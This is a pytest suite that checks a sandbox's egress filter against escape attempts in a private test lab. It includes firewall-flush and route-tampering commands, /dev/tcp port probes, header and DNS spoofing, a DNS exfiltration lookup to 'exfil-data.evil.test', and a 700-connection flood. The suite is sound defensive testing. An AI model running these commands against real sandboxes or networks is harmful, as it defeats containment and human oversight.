"""I7 and N1 (docs/SECURITY.md): a sandbox with network on reaches only what its egress policy
allows. Hostile tries at the filter from inside: the control plane and every host address, the
filter's own listener, rules and routes of the namespace, spoofed names (Host, SNI via
--resolve, CONNECT), rebinding, mapped IPv6, other resolvers, DNS over TCP, raw UDP, and a flood
of connections. Destinations: the private lab network of tests/py/netlab.py only."""
from __future__ import annotations

import os
import socket
import threading

import pytest

import netlab
from secutil import sandbox_pb2, sandbox_pb2_grpc, codebase_pb2, codebase_pb2_grpc
from server_fixture import cleanup_server, make_server


@pytest.fixture(scope="module")
def net():
    with netlab.Lab() as lab:
        s = make_server(extra_config=lab.server_config())
        s.start()
        ch = s.channel()
        sb = sandbox_pb2_grpc.SandboxServiceStub(ch)
        cb = codebase_pb2_grpc.CodebaseServiceStub(ch)
        cid = cb.CreateCodebase(codebase_pb2.CreateCodebaseRequest(name="n", owner_id="n")).id
        info = sb.CreateSandbox(sandbox_pb2.CreateSandboxRequest(
            codebase_id=cid, permissions=[{"pattern": "**/*", "permission": "PERMISSION_READ"}],
            egress=sandbox_pb2.EgressPolicy(allow=["allowed.test:80"])))
        sb.StartSandbox(sandbox_pb2.StartSandboxRequest(sandbox_id=info.id), timeout=120)

        def sh(cmd: str, timeout: float = 60):
            return sb.Exec(sandbox_pb2.ExecRequest(sandbox_id=info.id, command=cmd),
                           timeout=timeout)
        yield s, sh, lab
        ch.close()
        cleanup_server(s)


def curl(args: str) -> str:
    return f"curl -sS -m 5 {args} 2>&1; echo rc=$?"


def test_control_plane_and_host_addresses(net):
    s, sh, lab = net
    ips = ["127.0.0.1", netlab.HOST_SIDE] + [
        line.split()[3].split("/")[0] for line in
        os.popen("ip -4 -o addr").read().splitlines() if " lo " not in line]
    for ip in sorted(set(ips)):
        for port in (s.http_port, s.grpc_port, lab.loopback_port):
            r = sh(curl(f"-f http://{ip}:{port}/v1/sandboxes"))
            assert "rc=0" not in r.stdout and "sandboxes" not in r.stdout, (ip, port, r.stdout)
    # Through a name that resolves to loopback, with the Host the REST server expects.
    r = sh(curl(f"-f -H 'Host: 127.0.0.1:{s.http_port}' "
                f"http://rebind.test:{s.http_port}/v1/sandboxes"))
    assert "rc=0" not in r.stdout


def test_filter_listeners_are_not_reachable_directly(net):
    _, sh, _ = net
    r = sh("for p in 15001 15053 53; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>&1 && echo open-$p; "
           "done; true", timeout=30)
    assert "open-" not in r.stdout, r.stdout


def test_rules_and_routes_cannot_be_changed_from_inside(net):
    _, sh, _ = net
    r = sh("nft flush ruleset 2>&1; ip route replace default via 10.0.2.2 dev lo 2>&1;"
           " ip rule del priority 100 2>&1; echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter 2>&1;"
           " ip link add x type veth 2>&1; true")
    assert "Operation not permitted" in r.stdout or "Permission denied" in r.stdout, r.stdout
    # Still filtered afterwards, and still working.
    assert "hello from 198.51.100.10" in sh(curl("http://allowed.test/")).stdout
    assert "rc=0" not in sh(curl("http://other.test/")).stdout


def test_spoofed_names_go_to_the_allowed_server_only(net):
    _, sh, _ = net
    # --resolve: the allowed name pointed at another server's address. The filter connects to
    # the address the name really has.
    r = sh(curl(f"--resolve allowed.test:80:{netlab.OTHER_IP} http://allowed.test/"))
    assert "hello from 198.51.100.10" in r.stdout and netlab.OTHER_IP not in r.stdout.split("rc=")[0]
    # A Host header naming the allowed site on another address: same.
    r = sh(curl(f"-H 'Host: allowed.test' http://{netlab.OTHER_IP}/"))
    assert "hello from 198.51.100.10" in r.stdout
    # CONNECT through anything: decided on the CONNECT target.
    r = sh(curl(f"-p -x http://{netlab.OTHER_IP}:3128 http://other.test/"))
    assert "hello" not in r.stdout
    r = sh(curl(f"-p -x http://{netlab.OTHER_IP}:3128 http://127.0.0.1:9/"))
    assert "hello" not in r.stdout and "rc=0" not in r.stdout


def test_no_way_around_the_resolver(net):
    _, sh, _ = net
    for cmd in ("busybox nslookup other.test 8.8.8.8", f"busybox nslookup other.test {netlab.DNS_IP}",
                "busybox nslookup -type=txt exfil-data.evil.test"):
        r = sh(cmd + " 2>&1; true")
        assert netlab.OTHER_IP not in r.stdout, (cmd, r.stdout)
    # DNS over TCP to the lab's server, and DoH-style raw connections: refused.
    r = sh(f"python3 -c \"import socket; s=socket.create_connection(('{netlab.DNS_IP}',53),3);"
           f" s.sendall(b'\\\\x00\\\\x1c'+b'x'*28); print(s.recv(10))\" 2>&1; true")
    assert "b''" in r.stdout or "reset" in r.stdout.lower(), r.stdout


def test_udp_and_mapped_ipv6(net):
    _, sh, _ = net
    r = sh(f"python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(1);"
           f" s.sendto(b'x',('{netlab.ALLOWED_IP}',7001)); print(s.recv(9))\" 2>&1; true")
    assert "echo" not in r.stdout
    # A host service on every address, reached through an IPv4-mapped IPv6 address. (connect()
    # itself succeeds: the filter accepts every TCP connection, then decides; nothing of the
    # service ever comes back.)
    host = socket.socket()
    host.bind(("0.0.0.0", 0))
    host.listen(4)
    port = host.getsockname()[1]
    served = []
    stop = threading.Event()

    def serve():
        host.settimeout(0.2)
        while not stop.is_set():
            try:
                c, _ = host.accept()
            except OSError:
                continue
            served.append(1)
            c.sendall(b"HOST-ADDR")
            c.close()
    t = threading.Thread(target=serve)
    t.start()
    try:
        r = sh(f"python3 -c \"import socket; s=socket.socket(socket.AF_INET6); s.settimeout(1);"
               f" s.connect(('::ffff:{netlab.HOST_SIDE}',{port})); print(s.recv(20))\" 2>&1; true")
        assert "HOST-ADDR" not in r.stdout
    finally:
        stop.set()
        t.join()
        host.close()
    assert not served
    r = sh(curl("-g 'http://[::ffff:198.51.100.11]/'"))
    assert "hello" not in r.stdout


def test_connection_flood_leaves_the_filter_serving(net):
    _, sh, _ = net
    r = sh("python3 -c \"import socket\n"
           "held=[]\n"
           "for i in range(700):\n"
           "  try:\n"
           f"    s=socket.socket(); s.settimeout(2); s.connect(('{netlab.OTHER_IP}',9)); held.append(s)\n"
           "  except OSError: pass\n"
           "print(len(held))\" 2>&1", timeout=120)
    assert r.exit_code == 0, r.stdout
    assert "hello from 198.51.100.10" in sh(curl("http://allowed.test/")).stdout
